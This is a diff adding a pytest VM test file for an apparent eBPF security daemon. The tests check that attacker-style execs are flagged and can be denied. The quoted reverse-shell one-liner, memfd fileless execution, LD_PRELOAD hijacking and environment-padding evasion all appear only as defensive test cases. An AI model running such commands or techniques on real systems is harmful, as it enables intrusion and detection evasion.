@@ -1,0 +1,328 @@
+"""bprm_check_security's exec context, in a VM: the execs an attacker sets up (a reverse
+shell's socket stdio, fileless memfd execution, a deleted or /tmp-like executable,
+dynamic-linker hijacking through LD_PRELOAD) carry their exact context bits, and a
+policy rule can deny on them.
+
+tests/vm/options/bprm_check_security.yaml sets the ld_values option (it is also the
+default); the value assertions follow the session config, so they hold either way.
+"""
+
+from __future__ import annotations
+
+import ctypes
+import errno
+import json
+import os
+import shutil
+import struct
+import subprocess
+import sys
+import uuid
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from tests.support.journald import Journal
+from tests.support.metrics import metric
+from tests.vm.conftest import RunningDaemon
+from tests.vm.test_policy import Reloader
+
+pytestmark = pytest.mark.vm
+HOOK = "bprm_check_security"
+WORKLOAD = Path(__file__).parent / "workloads" / "exec_context_workload.py"
+TEST_UID = 64711  # the deny test's processes (setpriv); no other test uses it
+LD_SCAN_STRINGS = 256  # environment strings scanned for LD_* (BPRM_CHECK_SECURITY_LD_SCAN_STRINGS)
+# The stdio of a test's exec: subprocess pipes (stdout, stderr) and /dev/null (stdin).
+PIPED = {"stdin_type": "CHAR", "stdout_type": "PIPE", "stderr_type": "PIPE"}
+
+
+def ld_values_enabled(daemon: RunningDaemon) -> bool:
+    cfg = yaml.safe_load(daemon.config.read_text())
+    return bool((cfg["hooks"].get(HOOK) or {}).get("ld_values", True))  # the sidecar's default: on
+
+
+def context(o: dict[str, Any]) -> set[str]:
+    """The context flags of an event as a set (empty: NONE)."""
+    return {f for f in str(o["context"]).split("|") if f != "NONE"}
+
+
+def unique_copy(directory: Path, src: str = "/bin/true") -> Path:
+    exe = directory / f"krsid-ctx-{uuid.uuid4().hex[:12]}"
+    shutil.copy2(src, exe)
+    return exe
+
+
+def exec_event(daemon: RunningDaemon, predicate: Callable[[dict[str, Any]], bool]) -> dict[str, Any]:
+    events = daemon.wait_events(lambda o: o["hook"] == HOOK and predicate(o))
+    assert len(events) == 1, events
+    return events[0]
+
+
+def workload(mode: str, path: Path | str, *, uid: int | None = None) -> list[dict[str, Any]]:
+    """Run the workload (as uid, if given); its report lines: [{"pid"}] after a
+    successful exec, [{"pid"}, {"pid", "errno"}] after a failed one."""
+    prefix = ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups"] if uid is not None else []
+    p = subprocess.run(
+        [*prefix, sys.executable, str(WORKLOAD), mode, str(path)],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        stdin=subprocess.DEVNULL,
+    )
+    lines = [json.loads(line) for line in p.stdout.splitlines() if line.strip()]
+    assert lines, f"workload {mode} reported nothing (rc {p.returncode}): {p.stderr}"
+    return lines
+
+
+def target_exec(pid: int) -> Callable[[dict[str, Any]], bool]:
+    """The workload's own exec of /bin/true (not the exec of the workload into pid)."""
+    return lambda o: o["tgid"] == pid and o["args"] == ["/bin/true"]
+
+
+@pytest.fixture
+def enabled(hook_enabled: Callable[[str], None]) -> None:
+    hook_enabled(HOOK)
+
+
+@pytest.mark.parametrize(
+    ("mode", "kind"),
+    [("tcp", "SOCKET_INET"), ("tcp6", "SOCKET_INET6"), ("socketpair", "SOCKET_UNIX")],
+)
+def test_socket_stdio_is_typed_and_a_network_socket_is_flagged(
+    daemon: RunningDaemon, tmp_path: Path, enabled: None, mode: str, kind: str
+) -> None:
+    """The reverse-shell shape (`bash -i >& /dev/tcp/HOST/PORT 0>&1`): fds 0-2 are one
+    connected socket when the shell is executed. AF_UNIX stdio (journald's for every
+    systemd service) is typed but not flagged."""
+    if mode == "tcp6" and not socket_has_ipv6():
+        pytest.skip("no IPv6 loopback in this VM")
+    exe = unique_copy(tmp_path)
+    (w,) = workload(mode, exe)
+    o = exec_event(daemon, lambda o: o["tgid"] == w["pid"] and o["args"] == [str(exe)])
+    assert o["path"] == str(exe)
+    assert (o["stdin_type"], o["stdout_type"], o["stderr_type"]) == (kind, kind, kind)
+    network = {"STDIN_INET", "STDOUT_INET", "STDERR_INET"} if mode != "socketpair" else set()
+    assert context(o) == network, o["context"]
+    assert o["action"] == "audit"
+
+
+def socket_has_ipv6() -> bool:
+    import socket
+
+    try:
+        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
+            s.bind(("::1", 0))
+        return True
+    except OSError:
+        return False
+
+
+def test_plain_exec_has_no_context(daemon: RunningDaemon, tmp_path: Path, enabled: None) -> None:
+    """The control: a copy in the test's own 0700 directory on the guest's overlay /tmp,
+    pipes and /dev/null for stdio, no LD_* variable."""
+    exe = unique_copy(tmp_path)
+    subprocess.run([str(exe)], env={"PATH": "/usr/bin:/bin"}, stdin=subprocess.DEVNULL, capture_output=True, check=True)
+    o = exec_event(daemon, lambda o: o["path"] == str(exe))
+    assert o["context"] == "NONE"
+    assert {k: o[k] for k in PIPED} == PIPED
+    assert (o["ld_preload"], o["ld_audit"], o["ld_library_path"]) == ("", "", "")
+
+
+def test_memfd_exec_is_flagged(daemon: RunningDaemon, enabled: None) -> None:
+    """Fileless execution: memfd_create, write an ELF, fexecve. A memfd lies on the
+    kernel's internal tmpfs and has no name (link count 0)."""
+    (w,) = workload("memfd", "/bin/true")
+    o = exec_event(daemon, target_exec(w["pid"]))
+    assert context(o) == {"MEMFD", "DELETED", "TMPFS"}, o["context"]
+    assert o["path"].startswith("/memfd:krsid-payload"), o["path"]
+
+
+def test_deleted_file_exec_is_flagged(daemon: RunningDaemon, tmpfs_dir: Path, enabled: None) -> None:
+    """Run a file whose name is gone: opened, unlinked, executed through /proc/self/fd."""
+    tmpfs_dir.chmod(0o755)  # not world-writable: only DELETED and TMPFS
+    exe = unique_copy(tmpfs_dir)
+    (w,) = workload("deleted", exe)
+    o = exec_event(daemon, lambda o: o["tgid"] == w["pid"] and o["args"] == [str(exe)])
+    assert context(o) == {"DELETED", "TMPFS"}, o["context"]
+    assert o["filename"].startswith("/proc/self/fd/")
+    assert o["path"] == f"{exe} (deleted)"
+
+
+@pytest.mark.parametrize(("mode", "flags"), [(0o1777, {"TMPFS", "WORLD_WRITABLE_DIR"}), (0o755, {"TMPFS"})])
+def test_exec_from_tmpfs_and_world_writable_dir(
+    daemon: RunningDaemon, tmpfs_dir: Path, enabled: None, mode: int, flags: set[str]
+) -> None:
+    """/dev/shm and /tmp-like staging: a file on tmpfs, in a directory o+w (1777, as
+    /tmp) or not."""
+    tmpfs_dir.chmod(mode)
+    exe = unique_copy(tmpfs_dir)
+    subprocess.run([str(exe)], env={}, stdin=subprocess.DEVNULL, capture_output=True, check=True)
+    o = exec_event(daemon, lambda o: o["path"] == str(exe))
+    assert context(o) == flags, o["context"]
+
+
+def test_ld_variables_are_flagged_with_their_values(daemon: RunningDaemon, tmp_path: Path, enabled: None) -> None:
+    """Dynamic-linker hijacking: LD_PRELOAD, LD_AUDIT, LD_LIBRARY_PATH by name only; a
+    look-alike name does not count, and no other variable's value is kept."""
+    exe = unique_copy(tmp_path)
+    env = {
+        "LD_PRELOADX": "/not-this.so",  # a look-alike: not LD_PRELOAD
+        "LD_PRELOAD": "/nonexistent-krsid.so",
+        "KRSID_SECRET": "hunter2",
+        "LD_AUDIT": "/nonexistent-audit.so",
+        "LD_LIBRARY_PATH": "/opt/krsid-lib:/opt/krsid-lib2",
+    }
+    p = subprocess.run([str(exe)], env=env, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=30)
+    assert p.returncode == 0, p.stderr  # ld.so ignores the missing objects (with a message)
+    o = exec_event(daemon, lambda o: o["path"] == str(exe))
+    assert context(o) == {"LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH"}, o["context"]
+    if ld_values_enabled(daemon):
+        assert (o["ld_preload"], o["ld_audit"], o["ld_library_path"]) == (
+            "/nonexistent-krsid.so",
+            "/nonexistent-audit.so",
+            "/opt/krsid-lib:/opt/krsid-lib2",
+        )
+    else:
+        assert (o["ld_preload"], o["ld_audit"], o["ld_library_path"]) == ("", "", "")
+    assert "LD_VALUE_TRUNCATED" not in o["flags"]
+
+
+def test_ld_preload_alone_and_the_last_occurrence_wins(daemon: RunningDaemon, tmp_path: Path, enabled: None) -> None:
+    """Only LD_PRELOAD, set twice (execve allows it): glibc's ld.so takes the last."""
+    exe = unique_copy(tmp_path)
+    out = subprocess.run(
+        [sys.executable, "-c", _EXEC_WITH_ENV, str(exe), "LD_PRELOAD=/first.so", "PATH=/bin", "LD_PRELOAD=/second.so"],
+        stdin=subprocess.DEVNULL,
+        capture_output=True,
+        text=True,
+        timeout=30,
+    )
+    assert out.returncode == 0, out.stderr
+    o = exec_event(daemon, lambda o: o["path"] == str(exe))
+    assert context(o) == {"LD_PRELOAD"}, o["context"]
+    if ld_values_enabled(daemon):
+        assert o["ld_preload"] == "/second.so"
+
+
+# Exec argv[1] with exactly the environment strings argv[2:] (duplicates kept: os.execve
+# takes a dict, so go through ctypes).
+_EXEC_WITH_ENV = """
+import ctypes, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+libc.execve.argtypes = [ctypes.c_char_p, ctypes.c_void_p, ctypes.c_void_p]
+def vec(items):
+    return (ctypes.c_char_p * (len(items) + 1))(*[os.fsencode(i) for i in items], None)
+libc.execve(os.fsencode(sys.argv[1]), vec(sys.argv[1:2]), vec(sys.argv[2:]))
+sys.exit(f"execve: errno {ctypes.get_errno()}")
+"""
+
+
+def test_a_padded_environment_is_marked_not_scanned(daemon: RunningDaemon, tmp_path: Path, enabled: None) -> None:
+    """Hiding LD_PRELOAD behind more variables than the scan reads does not pass unseen:
+    ENV_NOT_SCANNED says the LD_* bits may be missing."""
+    exe = unique_copy(tmp_path)
+    env = {f"KRSID_PAD_{i:04d}": "x" for i in range(LD_SCAN_STRINGS + 10)}
+    env["LD_PRELOAD"] = "/nonexistent-krsid.so"  # after the padding: dict order is the envp order
+    p = subprocess.run([str(exe)], env=env, stdin=subprocess.DEVNULL, capture_output=True, timeout=30)
+    assert p.returncode == 0, p.stderr
+    o = exec_event(daemon, lambda o: o["path"] == str(exe))
+    assert context(o) == {"ENV_NOT_SCANNED"}, o["context"]
+    assert o["envc"] == LD_SCAN_STRINGS + 11
+
+
+def test_exec_context_in_the_journal(daemon: RunningDaemon, journal: Journal, tmp_path: Path, enabled: None) -> None:
+    """The journald sink carries the new fields (KRSID_CONTEXT, KRSID_STDIN_TYPE, ...)."""
+    exe = unique_copy(tmp_path)
+    (w,) = workload("tcp", exe)
+    j = journal.wait_for(lambda e: True, f"KRSID_HOOK={HOOK}", f"KRSID_PATH={exe}")
+    assert len(j) == 1, j
+    e = j[0]
+    assert e["KRSID_TGID"] == str(w["pid"])
+    assert e["KRSID_CONTEXT"] == "STDIN_INET|STDOUT_INET|STDERR_INET"
+    assert (e["KRSID_STDIN_TYPE"], e["KRSID_STDOUT_TYPE"]) == ("SOCKET_INET", "SOCKET_INET")
+    assert e["MESSAGE"].endswith(" context=STDIN_INET|STDOUT_INET|STDERR_INET"), e["MESSAGE"]
+
+
+@pytest.fixture
+def policy(daemon: RunningDaemon, enabled: None) -> Iterator[Reloader]:
+    r = Reloader(daemon)
+    try:
+        yield r
+    finally:
+        r.apply(r.original)
+
+
+def test_deny_reverse_shell_and_memfd_exec_for_one_uid(daemon: RunningDaemon, policy: Reloader) -> None:
+    """A deny rule on the context bits, scoped to a uid only this test uses: its
+    socket-stdio and memfd execs fail with EPERM; its plain exec and root's memfd exec run."""
+    rule = {
+        "name": "exec-context-block",
+        "hook": HOOK,
+        "action": "deny",
+        "match": {"uid": TEST_UID, "fields": {"context": {"any": ["STDIN_INET", "MEMFD"]}}},
+    }
+    policy.apply(policy.with_rules(rule))
+
+    tcp = workload("tcp", "/bin/true", uid=TEST_UID)
+    assert len(tcp) == 2 and tcp[1]["errno"] == errno.EPERM, tcp
+    memfd = workload("memfd", "/bin/true", uid=TEST_UID)
+    assert len(memfd) == 2 and memfd[1]["errno"] == errno.EPERM, memfd
+    for pid in (tcp[0]["pid"], memfd[0]["pid"]):
+        o = exec_event(daemon, target_exec(pid))
+        assert (o["action"], o["rule"], o["verdict"]) == ("deny", "exec-context-block", "-EPERM"), o
+        assert o["uid"] == TEST_UID
+
+    # Not denied: the same uid without the context, and root with it.
+    plain = subprocess.run(
+        ["setpriv", f"--reuid={TEST_UID}", f"--regid={TEST_UID}", "--clear-groups", "/bin/true"],
+        stdin=subprocess.DEVNULL,
+        capture_output=True,
+        timeout=30,
+    )
+    assert plain.returncode == 0, plain.stderr
+    (root,) = workload("memfd", "/bin/true")
+    o = exec_event(daemon, target_exec(root["pid"]))
+    assert (o["action"], o["verdict"]) == ("audit", "0")
+    assert "MEMFD" in context(o)
+    assert metric(daemon.scrape(), "krsid_denied_total", hook=HOOK, rule="exec-context-block") == 2
+
+
+def verified_insns(prog_id: int) -> int:
+    """bpf_prog_info.verified_insns (5.16) of a loaded program: this VM's bpftool does not
+    print it. The offset comes from the kernel's BTF, as krsid/kernel/bpfstats.py does."""
+    from krsid.kernel.btf import VMLINUX_BTF, Btf
+    from krsid.kernel.probe import BpfSyscall
+
+    bpf_prog_get_fd_by_id, bpf_obj_get_info_by_fd = 13, 15
+    (info_type,) = [c for c in Btf.load(VMLINUX_BTF).composites() if c.name == "bpf_prog_info" and c.kind == "struct"]
+    offset = {m.name: m.bit_offset // 8 for m in info_type.members}["verified_insns"]
+    bpf = BpfSyscall()
+    attr = ctypes.create_string_buffer(16)
+    struct.pack_into("<I", attr, 0, prog_id)
+    fd, err = bpf.call(bpf_prog_get_fd_by_id, attr)
+    assert fd >= 0, os.strerror(err)
+    try:
+        info = ctypes.create_string_buffer(info_type.size)
+        attr = ctypes.create_string_buffer(16)
+        struct.pack_into("<IIQ", attr, 0, fd, len(info), ctypes.addressof(info))
+        ret, err = bpf.call(bpf_obj_get_info_by_fd, attr)
+        assert ret == 0, os.strerror(err)
+    finally:
+        os.close(fd)
+    (count,) = struct.unpack_from("<I", info, offset)
+    return int(count)
+
+
+def test_program_verifies_within_budget(daemon: RunningDaemon, enabled: None) -> None:
+    """The exec context is computed before the policy decision without constants that
+    differ by path, so the verifier walks the 128-rule loop about once: it must stay far
+    below the kernel's 1M limit. Prints the count."""
+    out = subprocess.run(["bpftool", "-j", "prog", "show"], capture_output=True, text=True, check=True)
+    progs = [p for p in json.loads(out.stdout) if p.get("type") == "lsm" and "bprm_check" in str(p.get("name"))]
+    assert len(progs) == 1, progs
+    insns = verified_insns(int(progs[0]["id"]))
+    sys.stderr.write(f"\nbprm_check_security: {insns} instructions verified, {progs[0].get('bytes_xlated')} bytes\n")
+    assert 0 < insns < 400_000, insns
